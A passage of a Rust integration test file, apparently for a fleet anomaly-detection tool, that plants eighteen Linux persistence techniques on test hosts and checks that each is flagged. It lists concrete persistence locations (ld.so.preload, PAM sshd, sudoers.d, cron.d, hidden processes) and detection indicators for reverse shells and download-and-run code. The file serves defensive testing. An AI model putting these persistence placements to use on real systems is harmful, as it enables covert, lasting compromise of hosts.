    assert_eq!(outliers, BTreeSet::from([keyed.clone(), crond.clone()]), "{:#?}", report.visibility);
    let vantage = report.hosts[0].vantage.as_ref().unwrap();
    assert_eq!((vantage.uid, vantage.sudo_user.as_deref()), (Some(0), Some("ops")));
}

/// The persistence surface: eighteen techniques from public descriptions
/// (systemd unit, SysV init script and rc link, root's .bashrc, profile.d,
/// ld.so.preload, PAM, sudoers.d, update-motd.d, udev rule, apt hook,
/// cron.d, an LD_PRELOAD process, cap_setuid on perl, history to /dev/null,
/// an account without password, an executable in /var/tmp, a process hidden
/// by a preloaded readdir hook, an executable in www-data's home), each on its own
/// host of 40: exactly those hosts are the outliers, each for what was
/// planted, saying on how many hosts.
#[test]
fn forty_hosts_eighteen_persistence_techniques_are_exactly_the_outliers() {
    let Some(fleet) = Fleet::up(40, "per") else { return };
    let plants = [
        (3, "systemd", "/etc/systemd/system/dbus-broker-helper.service"),
        (7, "initd", "/etc/init.d/netplan-helper"),
        (11, "rcfile", "/root/.bashrc"),
        (15, "profile", "/etc/profile.d/locale-fix.sh"),
        (19, "preload", "/etc/ld.so.preload"),
        (23, "pam", "/etc/pam.d/sshd"),
        (27, "sudoers", "/etc/sudoers.d/90-cloud-init-compat"),
        (31, "motd", "/etc/update-motd.d/99-news"),
        (35, "udev", "/etc/udev/rules.d/75-net-helper.rules"),
        (38, "apthook", "/etc/apt/apt.conf.d/98update-notifier"),
        (40, "crond", "/etc/cron.d/sysstat-collect"),
    ];
    // Loaded code, file capabilities, history, shadow, writable directories.
    let others = [
        (1, "ldenv", "loaded_code", "value", "/dev/shm/.libsys.so"),
        (5, "capability", "file_capabilities", "path", "/var/tmp/.p/perl"),
        (9, "history", "persistence", "path", "/root/.bash_history"),
        (13, "shadow", "shadow", "username", "daemon"),
        (17, "tmpexec", "temp_files", "path", "/var/tmp/.x/agent"),
        (21, "hideproc", "hidden_processes", "name", "kworker_h"),
        (25, "syshome", "temp_files", "path", "/var/www/html/.well-known/update"),
    ];
    for (i, kind, _, _, _) in others {
        fleet.plant(fleet.host(i), kind);
    }
    // A canary deploy on four hosts (a new unit and its link), and a change
    // on every host (drift): neither makes an outlier.
    let canary = [2, 4, 6, 8];
    for i in canary {
        let out = fleet.exec(
            fleet.host(i),
            "printf '[Unit]\nDescription=app v2\n[Service]\nExecStart=/opt/app/bin/server --port 8080\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/app-v2.service && ln -sf /etc/systemd/system/app-v2.service /etc/systemd/system/multi-user.target.wants/app-v2.service",
        );
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    for h in &fleet.hosts {
        let out = fleet.exec(h, "mkdir -p /etc/profile.d && echo 'export APP_ENV=prod' > /etc/profile.d/app-env.sh");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    for (i, kind, _) in plants {
        fleet.plant(fleet.host(i), kind);
    }
    let tmp = OwnTmp::new("per");
    let d = Diffy::new().env("TMPDIR", tmp.env());
    let mut args: Vec<String> =
        ["analyze", "web", "--payload", "shell", "--method", "cluster", "--format", "json"].map(String::from).to_vec();
    args.extend(ssh_args(&fleet));
    let r = d.run(&args.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(r.code, 1, "{}", r.stderr);
    let report = r.report();
    assert_eq!(report.coverage.collected, 40, "{:?}", report.coverage);
    let outliers: BTreeSet<&str> = report.outliers().map(|h| h.host.as_str()).collect();
    let planted: BTreeSet<&str> =
        plants.iter().map(|(i, _, _)| fleet.host(*i)).chain(others.iter().map(|o| fleet.host(o.0))).collect();
    let scores: Vec<(String, f64)> = report.hosts.iter().map(|h| (h.host.clone(), h.score)).collect();
    assert_eq!(outliers, planted, "exactly the planted hosts: {scores:?}");
    // The table of the issue's note: technique, host score, top finding
    // (shown with --nocapture).
    #[allow(clippy::print_stderr)]
    for (i, kind) in plants.iter().map(|p| (p.0, p.1)).chain(others.iter().map(|o| (o.0, o.1))) {
        let h = report.hosts.iter().find(|h| h.host == fleet.host(i)).unwrap();
        let f = &h.findings[0];
        eprintln!(
            "technique | {kind} | {} | {} {:?} | {} | {}",
            h.score,
            f.query,
            f.kind,
            f.score,
            f.indicators.first().map(String::as_str).unwrap_or("-")
        );
    }
    for (i, kind, path) in plants {
        let h = report.hosts.iter().find(|h| h.host == fleet.host(i)).unwrap();
        let f = h
            .findings
            .iter()
            .find(|f| f.query == "persistence" && f.row.get("path").is_some_and(|p| p == path))
            .unwrap_or_else(|| panic!("{kind}: a persistence finding for {path}: {:#?}", h.findings));
        assert_eq!((f.prevalence.hosts, f.prevalence.of), (1, 40), "{kind}: {f:#?}");
        assert!(f.score >= report.threshold, "{kind}: on its own it reaches the threshold: {f:#?}");
    }
    for (i, kind, query, col, needle) in others {
        let h = report.hosts.iter().find(|h| h.host == fleet.host(i)).unwrap();
        assert!(
            h.findings.iter().any(|f| f.query == query && f.row.get(col).is_some_and(|v| v.contains(needle))),
            "{kind}: {query} {col} {needle}: {:#?}",
            h.findings
        );
    }
    // What they run is read, not only that they exist.
    let indicators = |i: usize| -> Vec<String> {
        let h = report.hosts.iter().find(|h| h.host == fleet.host(i)).unwrap();
        h.findings.iter().filter(|f| f.query == "persistence").flat_map(|f| f.indicators.clone()).collect()
    };
    let findings = |i: usize| report.hosts.iter().find(|h| h.host == fleet.host(i)).unwrap().findings.clone();
    assert!(indicators(3).iter().any(|x| x == "reverse-shell pattern"), "{:#?}", findings(3));
    assert!(indicators(7).iter().any(|x| x == "downloads and runs code"), "{:#?}", findings(7));
    assert!(indicators(19).iter().any(|x| x.contains("preload library in a world-writable")), "{:#?}", findings(19));
    assert!(indicators(23).iter().any(|x| x.contains("pam_succeed_if uid >= 0")), "{:#?}", findings(23));
    assert!(indicators(27).iter().any(|x| x.contains("passwordless sudo")), "{:#?}", findings(27));
    let canary_hosts: BTreeSet<&str> = canary.iter().map(|i| fleet.host(*i)).collect();
    let cohort = report
        .cohorts
        .iter()
        .find(|c| c.hosts.iter().map(String::as_str).collect::<BTreeSet<_>>() == canary_hosts)
        .unwrap_or_else(|| panic!("the canary is one cohort: {:#?}", report.cohorts));
    assert!(cohort.rows.iter().any(|r| r.query == "persistence"), "{cohort:#?}");
    for h in report.hosts.iter().filter(|h| !planted.contains(h.host.as_str())) {
        assert!(h.findings.is_empty(), "clean hosts, the canary's too, have nothing to say: {h:#?}");
    }
}

/// The deep pack: `dpkg --verify` on every host, under its own time limit and
/// the deep pack's own deadline; a configuration file edited on one host
/// is reported there, seen on 1 of the hosts, and nowhere else.
#[test]
#[allow(clippy::print_stderr)] // the reason for a skip outside CI
fn the_deep_pack_reports_packaged_files_that_differ() {
    if !std::path::Path::new("/var/lib/dpkg/info/base-files.conffiles").exists() {
        assert!(std::env::var("CI").is_err(), "CI runs on Debian: dpkg and base-files must be there");
        eprintln!("skipped: needs a Debian host (dpkg, base-files)");
        return;
    }
    let Some(fleet) = Fleet::up(4, "deep") else { return };
    let edited = fleet.host(3).to_string();
    let out = fleet.exec(&edited, "echo 12.99-edited > /etc/debian_version");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let d = Diffy::new();
    let mut args = vec!["analyze".to_string(), "web".into()];
    args.extend(ssh_args(&fleet));
    args.extend(["--payload", "shell-deep", "--method", "cluster", "--format", "json"].map(String::from));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let r = d.run(&args);
    let report = r.report();
    assert_eq!(report.coverage.collected, 4, "{}\n{:?}", r.stderr, report.coverage);
    assert_eq!(report.run.as_ref().and_then(|r| r.payload.as_deref()), Some("shell-deep"));
    let integrity = |h: &str| {
        let host = report.hosts.iter().find(|x| x.host == h).unwrap();
        host.findings.iter().filter(|f| f.query == "package_integrity").cloned().collect::<Vec<_>>()
    };
    let found = integrity(&edited);
    let f = found
        .iter()
        .find(|f| f.row.get("path").map(String::as_str) == Some("/etc/debian_version"))
        .unwrap_or_else(|| panic!("the edited file is reported: {found:#?}"));
    assert_eq!(f.row.get("flags").map(String::as_str), Some("??5??????"), "{f:#?}");
    assert_eq!(f.row.get("attribute").map(String::as_str), Some("c"), "a configuration file: {f:#?}");
    assert_eq!(f.row.get("manager").map(String::as_str), Some("dpkg"));
    assert_eq!((f.prevalence.hosts, f.prevalence.of), (1, 4), "{f:#?}");
    assert!(f.indicators.iter().any(|i| i.contains("configuration file")), "{f:#?}");
    for h in fleet.hosts.iter().filter(|h| **h != edited) {
        assert!(integrity(h).is_empty(), "{h}: what every host shares is not a finding: {:#?}", integrity(h));
    }
    // Every host answered the query itself, under its own limit: no host's
    // package_integrity failed or was cut.
    for h in &fleet.hosts {
        let stored = d.host_result(&common::only_run(&d.path("diffy-store")), h);
        let q = stored["queries"]
            .as_array()
            .and_then(|qs| qs.iter().find(|q| q["name"] == "package_integrity"))
            .unwrap_or_else(|| panic!("{h}: package_integrity ran: {stored:#}"));
        assert_eq!(q["status"], "ok", "{h}: {q:#}");
    }
}
